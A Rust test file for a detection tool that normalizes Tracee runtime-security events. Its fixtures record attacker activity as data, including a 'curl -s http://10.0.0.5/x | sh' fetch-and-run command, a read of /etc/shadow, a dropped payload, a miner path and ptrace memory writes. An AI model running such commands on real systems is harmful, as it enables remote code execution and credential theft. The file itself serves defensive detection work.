//! Normalization into `tripline_schema::Event` and raw-field access for Sigma.
#![cfg(feature = "schema")]

use tripline_schema::{
    Container, Direction, EventKind, FieldSource, FileOp, NetworkOp, SeverityLevel, Value,
};
use tripline_tracee::{Normalizer, Record, Settings, from_str};

const EVENTS: &str = include_str!("fixtures/v0.19_events.jsonl");
const RELATIVE: &str = include_str!("fixtures/v0.19_relative-time.jsonl");
const V1: &str = include_str!("fixtures/v1beta1_marshaller.jsonl");
const CID: &str = "9f3c1e7a2b4d6f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7081";

fn norm(n: usize) -> tripline_schema::Event {
    Normalizer::default().normalize(&from_str(EVENTS.lines().nth(n).unwrap()).unwrap())
}

fn tracee(ev: &tripline_schema::Event) -> &tripline_schema::Fields {
    ev.unmapped["tracee"].as_map().unwrap()
}

#[test]
fn exec_becomes_process_exec() {
    let ev = norm(0);
    assert_eq!(
        ev.time.timestamp_nanos_opt(),
        Some(1_700_000_000_000_000_001)
    );
    assert_eq!(ev.source.format, "tracee-json");
    assert_eq!(ev.source.event_code.as_deref(), Some("713"));
    assert_eq!(ev.action.as_deref(), Some("sched_process_exec"));
    let EventKind::ProcessExec(p) = &ev.kind else {
        panic!("{:?}", ev.kind)
    };
    assert_eq!(p.process.executable.as_deref(), Some("/usr/bin/dash"));
    assert_eq!(
        p.process.args,
        ["sh", "-c", "curl -s http://10.0.0.5/x | sh"]
    );
    assert_eq!(
        p.process.command_line.as_deref(),
        Some("sh -c curl -s http://10.0.0.5/x | sh")
    );
    assert_eq!(
        (p.process.pid, p.process.vpid, p.process.ppid),
        (Some(24112), Some(1), Some(24090))
    );
    assert_eq!(p.process.entity_id.as_deref(), Some("2146028341"));
    assert_eq!(p.process.user.as_ref().and_then(|u| u.id), Some(0));
    assert_eq!(
        p.interpreter.as_deref(),
        Some("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2")
    );
    let c = ev.container.as_ref().unwrap();
    assert_eq!(c.id.as_deref(), Some(CID));
    assert_eq!(c.name.as_deref(), Some("web"));
    let img = c.image.as_ref().unwrap();
    assert_eq!(
        (img.name.as_deref(), img.tag.as_deref()),
        (Some("docker.io/library/nginx"), Some("1.25"))
    );
    assert!(img.digest.as_deref().unwrap().starts_with("sha256:0d17"));
    let o = ev.orchestrator.as_ref().unwrap();
    assert_eq!(
        (o.namespace.as_deref(), o.pod_name.as_deref()),
        (Some("shop"), Some("web-7d4b9c-x2k9p"))
    );
    // In a container hostName is the container's UTS name, not the host's.
    assert!(ev.host.is_none());
    let t = tracee(&ev);
    assert_eq!(t["hostName"], "web-7d4b9c-x2k");
    assert_eq!(t["args"]["cmdpath"], "/bin/sh");
    assert_eq!(t["args"]["stdin_type"], "S_IFIFO");
    assert!(
        t["args"].get("argv").is_none(),
        "consumed args are not duplicated"
    );
    assert_eq!(t["origin"], "container");
    assert_eq!(
        ev.raw.as_ref().unwrap().text,
        EVENTS.lines().next().unwrap()
    );
    assert_eq!(
        ev.get("process.executable"),
        Some(Value::str("/usr/bin/dash"))
    );
    assert_eq!(ev.get("container.id"), Some(Value::str(CID)));
}

#[test]
fn file_events() {
    let ev = norm(1);
    let EventKind::FileAccess(f) = &ev.kind else {
        panic!()
    };
    assert_eq!(
        (f.op.clone(), f.file.path.as_deref()),
        (FileOp::Open, Some("/etc/shadow"))
    );
    assert_eq!(f.file.inode, Some(1447));
    assert_eq!(tracee(&ev)["args"]["flags"], "O_RDONLY|O_CLOEXEC");
    let EventKind::FileAccess(f) = &norm(9).kind else {
        panic!()
    };
    assert_eq!(f.op, FileOp::Delete);
    let EventKind::FileAccess(f) = &norm(10).kind else {
        panic!()
    };
    assert_eq!(f.op, FileOp::Rename);
    assert_eq!(f.file.path.as_deref(), Some("/tmp/a"));
    assert_eq!(
        f.target.as_ref().unwrap().path.as_deref(),
        Some("/usr/local/bin/a")
    );
    let ev = norm(11);
    let EventKind::FileAccess(f) = &ev.kind else {
        panic!()
    };
    assert_eq!(
        (f.op.clone(), f.file.path.as_deref()),
        (FileOp::Mount, Some("/mnt/host"))
    );
    assert_eq!(tracee(&ev)["args"]["dev_name"], "/dev/sda1");
    let ev = norm(16);
    let EventKind::FileAccess(f) = &ev.kind else {
        panic!()
    };
    assert_eq!(
        (f.op.clone(), f.file.path.as_deref()),
        (FileOp::Write, Some("/root/payload"))
    );
    assert!(ev.container.is_none());
    assert_eq!(ev.host.as_ref().unwrap().name.as_deref(), Some("node-1"));
    assert_eq!(tracee(&ev)["args"]["bytes"], "IyEvYmluL3NoCg==");
}

#[test]
fn network_events() {
    let EventKind::Network(n) = &norm(2).kind else {
        panic!()
    };
    assert_eq!(
        (n.op.clone(), n.direction),
        (NetworkOp::Connect, Some(Direction::Outbound))
    );
    let d = n.destination.as_ref().unwrap();
    assert_eq!(
        (d.ip, d.port),
        (Some("10.0.0.5".parse().unwrap()), Some(80))
    );
    assert_eq!(n.process.as_ref().unwrap().name.as_deref(), Some("curl"));
    let EventKind::Network(n) = &norm(13).kind else {
        panic!()
    };
    assert_eq!(
        (n.op.clone(), n.transport.as_deref()),
        (NetworkOp::Bind, Some("unix"))
    );
    assert_eq!(
        n.source.as_ref().unwrap().path.as_deref(),
        Some("/run/app.sock")
    );
    let EventKind::Network(n) = &norm(14).kind else {
        panic!()
    };
    assert_eq!(
        (n.op.clone(), n.direction),
        (NetworkOp::Accept, Some(Direction::Inbound))
    );
    assert_eq!(n.destination.as_ref().unwrap().port, Some(8080));
}

#[test]
fn container_lifecycle_and_enrichment() {
    let line = EVENTS.lines().nth(3).unwrap();
    let calls = std::cell::Cell::new(0);
    let cache = |id: &str, c: &mut Container| {
        calls.set(calls.get() + 1);
        if id == CID {
            c.labels.insert("app".into(), "shop".into());
        }
    };
    let ev = Normalizer::default()
        .with_enricher(&cache)
        .normalize(&from_str(line).unwrap());
    assert_eq!(calls.get(), 1);
    let EventKind::ContainerLifecycle(l) = &ev.kind else {
        panic!()
    };
    assert_eq!(
        (l.object_type.as_str(), l.action.as_str()),
        ("container", "create")
    );
    assert_eq!(l.actor_id.as_deref(), Some(CID));
    let c = ev.container.as_ref().unwrap();
    assert_eq!(c.id.as_deref(), Some(CID));
    assert_eq!(c.runtime.as_deref(), Some("containerd"));
    assert_eq!(c.labels["app"], "shop");
    assert_eq!(tracee(&ev)["process"]["name"], "containerd-shim");
    let EventKind::ContainerLifecycle(l) = &norm(15).kind else {
        panic!()
    };
    assert_eq!(l.action, "remove");
}

#[test]
fn process_exit_fork_ptrace() {
    let EventKind::ProcessExit(p) = &norm(7).kind else {
        panic!()
    };
    assert_eq!(p.process.exit_code, Some(256));
    let ev = norm(8);
    let EventKind::ProcessFork(f) = &ev.kind else {
        panic!("{:?}", ev.kind)
    };
    assert_eq!(ev.action.as_deref(), Some("sched_process_fork"));
    assert_eq!(
        (f.process.pid, f.process.vpid, f.process.ppid),
        (Some(24150), Some(7), Some(24112))
    );
    assert_eq!(f.process.name.as_deref(), Some("sh"));
    let ev = norm(12);
    let EventKind::ProcessAccess(a) = &ev.kind else {
        panic!("{:?}", ev.kind)
    };
    assert_eq!(ev.action.as_deref(), Some("ptrace"));
    assert_eq!(ev.outcome, tripline_schema::Outcome::Failure);
    assert_eq!(a.op, tripline_schema::ProcessAccessOp::Attach);
    assert_eq!(a.request.as_deref(), Some("PTRACE_ATTACH"));
    assert_eq!(a.target.vpid, Some(4242));
}

#[test]
fn signatures_become_findings() {
    let ev = norm(4);
    let EventKind::Finding(f) = &ev.kind else {
        panic!()
    };
    assert_eq!(f.rule.id.as_deref(), Some("TRC-102"));
    assert_eq!(f.rule.name.as_deref(), Some("Anti-Debugging detected"));
    assert_eq!(f.rule.category.as_deref(), Some("defense-evasion"));
    assert_eq!(f.event_type.as_deref(), Some("ptrace"));
    assert_eq!(ev.severity.level, SeverityLevel::Low);
    assert_eq!(ev.severity.original.as_deref(), Some("1"));
    let a = &f.attacks[0];
    assert_eq!(a.tactic.as_ref().unwrap().id, "TA0005");
    assert_eq!(a.technique.as_ref().unwrap().id, "T1622");
    assert!(
        ev.message
            .as_deref()
            .unwrap()
            .starts_with("A process used anti-debugging")
    );
    let t = tracee(&ev);
    assert_eq!(t["triggeredBy"]["name"], "ptrace");
    // Kept once: not repeated under the leftover args.
    assert!(t["args"].get("triggeredBy").is_none(), "{t:?}");
    assert_eq!(
        t["properties"]["id"],
        "attack-pattern--e4dc8c01-417f-458d-9ee0-bb0617c1b391"
    );
    // The trigger normalizes on its own.
    let Record::Trace(sig) = from_str(EVENTS.lines().nth(4).unwrap()).unwrap() else {
        panic!()
    };
    let trig = Normalizer::default().trace(&sig.triggered_by().unwrap().unwrap());
    assert_eq!(trig.action.as_deref(), Some("ptrace"));
    assert_eq!(trig.container.unwrap().id.as_deref(), Some(CID));

    let ev = norm(5);
    let EventKind::Finding(f) = &ev.kind else {
        panic!()
    };
    assert!(f.attacks.is_empty(), "null ATT&CK keys give no attack");
    assert_eq!(f.destination.as_ref().unwrap().port, Some(443));
    assert_eq!(tracee(&ev)["args"]["ip"], "10.96.0.1");
    let ev = norm(6);
    let EventKind::Finding(f) = &ev.kind else {
        panic!()
    };
    assert_eq!(ev.severity.level, SeverityLevel::Medium);
    assert_eq!(
        f.file.as_ref().unwrap().path.as_deref(),
        Some("/tmp/.x/miner")
    );
    assert_eq!(f.attacks[0].technique.as_ref().unwrap().id, "T1036");
}

#[test]
fn unmapped_can_be_turned_off() {
    let rec = from_str(EVENTS.lines().nth(4).unwrap()).unwrap();
    let full = Normalizer::default().normalize(&rec);
    let lean = Normalizer::default()
        .keep_unmapped(false)
        .keep_raw(false)
        .normalize(&rec);
    assert!(lean.unmapped.is_empty());
    assert!(lean.raw.is_none());
    assert_eq!(lean.kind, full.kind);
    assert_eq!(lean.severity, full.severity);
    assert_eq!(lean.container, full.container);
}

#[test]
fn relative_time_with_offset() {
    let mut s = Settings::default();
    s.epoch_offset_ns = Some(1_700_000_000_000_000_000);
    let rec = from_str(RELATIVE.lines().next().unwrap()).unwrap();
    let ev = Normalizer::new(s).normalize(&rec);
    assert_eq!(
        ev.time.timestamp_nanos_opt(),
        Some(1_700_000_005_123_456_789)
    );
    let ev = Normalizer::default().normalize(&rec);
    assert_eq!(tracee(&ev)["relative_time"], true);
}

#[test]
fn v1beta1_normalizes() {
    let mut lines = V1.lines();
    let ev = Normalizer::default().normalize(&from_str(lines.next().unwrap()).unwrap());
    assert_eq!(ev.source.format, "tracee-v1beta1");
    let EventKind::Network(n) = &ev.kind else {
        panic!()
    };
    assert_eq!(n.destination.as_ref().unwrap().port, Some(80));
    let p = n.process.as_ref().unwrap();
    assert_eq!(
        (p.pid, p.vpid, p.executable.as_deref()),
        (Some(24112), Some(7), Some("/usr/bin/curl"))
    );
    assert_eq!(ev.container.as_ref().unwrap().id.as_deref(), Some(CID));
    let ev = Normalizer::default().normalize(&from_str(lines.next().unwrap()).unwrap());
    let EventKind::Finding(f) = &ev.kind else {
        panic!()
    };
    assert_eq!(f.rule.id.as_deref(), Some("TRC-102"));
    assert_eq!(ev.severity.level, SeverityLevel::Low);
    assert_eq!(f.attacks[0].tactic.as_ref().unwrap().id, "TA0005");
    assert_eq!(tracee(&ev)["detected_from"]["name"], "ptrace");
}

#[test]
fn raw_fields_for_sigma() {
    let Record::Trace(e) = from_str(EVENTS.lines().next().unwrap()).unwrap() else {
        panic!()
    };
    assert_eq!(e.field("eventName"), Some(Value::str("sched_process_exec")));
    assert_eq!(e.field("processName"), Some(Value::str("sh")));
    assert_eq!(e.field("containerId"), Some(Value::str(CID)));
    assert_eq!(e.field("args.pathname"), Some(Value::str("/usr/bin/dash")));
    assert_eq!(e.field("args.dev"), Some(Value::Int(2049)));
    assert_eq!(
        e.field("args.argv"),
        Some(Value::List(vec![
            Value::str("sh"),
            Value::str("-c"),
            Value::str("curl -s http://10.0.0.5/x | sh")
        ]))
    );
    assert_eq!(e.field("eventId"), Some(Value::Int(713)));
    assert_eq!(
        e.field("container.image"),
        Some(Value::str("docker.io/library/nginx:1.25"))
    );
    assert_eq!(e.field("stackAddresses"), None);
    assert_eq!(e.field("args.nope"), None);
    assert_eq!(e.raw_text(), Some(EVENTS.lines().next().unwrap()));
    assert!(e.field_names().iter().any(|n| n == "args.interp"));
    let Record::Trace(e) = from_str(EVENTS.lines().nth(5).unwrap()).unwrap() else {
        panic!()
    };
    assert_eq!(
        e.field("metadata.Properties.signatureID"),
        Some(Value::str("TRC-1013"))
    );
    assert_eq!(e.field("metadata.Properties.Category"), Some(Value::Null));
    assert_eq!(e.field("metadata.Properties.Severity"), Some(Value::Int(1)));
    assert_eq!(e.field("metadata.Tags"), Some(Value::Null));
    assert!(matches!(e.field("args.triggeredBy.args"), Some(Value::List(l)) if l.len() == 2));
    assert_eq!(
        e.field("args.triggeredBy.name"),
        Some(Value::str("security_socket_connect"))
    );
    let Record::Trace(e) = from_str(EVENTS.lines().nth(2).unwrap()).unwrap() else {
        panic!()
    };
    assert_eq!(
        e.field("args.remote_addr.sin_addr"),
        Some(Value::str("10.0.0.5"))
    );
    let v1 = from_str(V1.lines().next().unwrap()).unwrap();
    assert_eq!(
        v1.field("name"),
        Some(Value::str("security_socket_connect"))
    );
    assert_eq!(v1.field("workload.process.pid"), Some(Value::Int(7)));
    assert_eq!(v1.field("data.sockfd"), Some(Value::Int(3)));
    assert_eq!(
        v1.field("data.remote_addr.sin_addr"),
        Some(Value::str("10.0.0.5"))
    );
}

#[test]
fn corpus_normalizes_without_loss() {
    let Some(files) = tripline_testkit::corpus_files("tracee") else {
        return;
    };
    for f in files {
        let name = f.file_name().unwrap().to_string_lossy().into_owned();
        if name.ends_with(".md") || name.ends_with(".tsv") {
            continue;
        }
        let text = std::fs::read_to_string(&f).unwrap();
        let mut r = tripline_tracee::Reader::new(std::io::Cursor::new(text.as_str()));
        let n = Normalizer::default();
        while let Some(rec) = r.next_record() {
            let rec = rec.unwrap();
            let ev = n.normalize(&rec);
            assert_eq!(ev.action.as_deref(), Some(rec.event_name()), "{name}");
            assert_eq!(ev.raw.as_ref().unwrap().text, rec.raw());
            if let Record::Trace(t) = &rec {
                assert_eq!(ev.time.timestamp_nanos_opt(), t.timestamp, "{name}");
                assert_eq!(
                    ev.container.as_ref().and_then(|c| c.id.as_deref()),
                    t.container_id()
                );
                if t.is_signature() {
                    assert!(matches!(ev.kind, EventKind::Finding(_)), "{name}");
                }
                // Every arg either mapped or kept under unmapped.tracee.args.
                if matches!(ev.kind, EventKind::Other(_)) {
                    let args = ev.unmapped["tracee"]["args"]
                        .as_map()
                        .map_or(0, |m| m.len());
                    let distinct: std::collections::BTreeSet<_> =
                        t.args.iter().map(|a| &a.name).collect();
                    assert_eq!(args, distinct.len(), "{name}");
                }
            }
        }
        assert!(r.counts().balanced());
    }
}

/// A v0.19 event line in the container of the fixtures with the given id, name and args.
fn container_line(event_id: &str, name: &str, args: &str) -> String {
    format!(
        r#"{{"timestamp":1700000050000000000,"threadStartTime":1699999999998500001,"processorId":1,"processId":7,"cgroupId":10994,"threadId":7,"parentProcessId":1,"hostProcessId":24200,"hostThreadId":24200,"hostParentProcessId":24112,"userId":0,"mountNamespace":4026532610,"pidNamespace":4026532613,"processName":"sh","executable":{{"path":"/usr/bin/dash"}},"hostName":"web-7d4b9c-x2k","containerId":"{CID}","container":{{"id":"{CID}","name":"web","image":"docker.io/library/nginx:1.25"}},"eventId":"{event_id}","eventName":"{name}","matchedPolicies":["default-policy"],"argsNum":4,"returnValue":0,"syscall":"{name}","threadEntityId":1520716380,"processEntityId":1520716380,"parentEntityId":2146028341,"args":[{args}]}}"#
    )
}

#[test]
fn fork_becomes_process_fork_with_the_child() {
    let line = container_line(
        "1002",
        "sched_process_fork",
        r#"{"name":"parent_tid","type":"int","value":24200},{"name":"parent_ns_tid","type":"int","value":7},{"name":"parent_pid","type":"int","value":24200},{"name":"parent_ns_pid","type":"int","value":7},{"name":"child_tid","type":"int","value":24201},{"name":"child_ns_tid","type":"int","value":8},{"name":"child_pid","type":"int","value":24201},{"name":"child_ns_pid","type":"int","value":8},{"name":"start_time","type":"unsigned long","value":1700000050000000000}"#,
    );
    let ev = Normalizer::default().normalize(&from_str(&line).unwrap());
    let EventKind::ProcessFork(f) = &ev.kind else {
        panic!("{:?}", ev.kind)
    };
    let child = &f.process;
    assert_eq!(
        (child.pid, child.vpid, child.tid, child.ppid),
        (Some(24201), Some(8), Some(24201), Some(24200))
    );
    assert_eq!(child.executable.as_deref(), Some("/usr/bin/dash"));
    let parent = child.parent.as_ref().unwrap();
    assert_eq!(parent.pid, Some(24200));
    assert_eq!(parent.entity_id.as_deref(), Some("1520716380"));
    assert_eq!(ev.container.as_ref().unwrap().id.as_deref(), Some(CID));
    // Consumed args are not repeated under unmapped; the rest stays.
    let args = tracee(&ev).get("args").and_then(|a| a.as_map());
    assert!(
        args.is_none_or(|a| !a.contains_key("child_pid")),
        "{args:?}"
    );
    assert!(
        args.is_some_and(|a| a.contains_key("start_time")),
        "{args:?}"
    );
}

#[test]
fn ptrace_becomes_process_access() {
    let line = container_line(
        "101",
        "ptrace",
        r#"{"name":"request","type":"long","value":"PTRACE_POKETEXT"},{"name":"pid","type":"pid_t","value":1},{"name":"addr","type":"void*","value":"0x7f3a2c001000"},{"name":"data","type":"void*","value":"0x9090909090909090"}"#,
    );
    let ev = Normalizer::default().normalize(&from_str(&line).unwrap());
    let EventKind::ProcessAccess(a) = &ev.kind else {
        panic!("{:?}", ev.kind)
    };
    assert_eq!(a.op, tripline_schema::ProcessAccessOp::Write);
    assert_eq!(a.request.as_deref(), Some("PTRACE_POKETEXT"));
    // The tracer is in a pid namespace (vpid 7 ≠ pid 24200): the target pid is namespaced.
    assert_eq!((a.target.pid, a.target.vpid), (None, Some(1)));
    assert_eq!(a.process.as_ref().unwrap().pid, Some(24200));
    assert_eq!(ev.kind.classification().activity_id, 4);

    // Without parse-arguments the request is a number.
    let line = line.replace(r#""value":"PTRACE_POKETEXT""#, r#""value":16"#);
    let ev = Normalizer::default().normalize(&from_str(&line).unwrap());
    let EventKind::ProcessAccess(a) = &ev.kind else {
        panic!("{:?}", ev.kind)
    };
    assert_eq!(a.op, tripline_schema::ProcessAccessOp::Attach);
    assert_eq!(a.request.as_deref(), Some("16"));
}
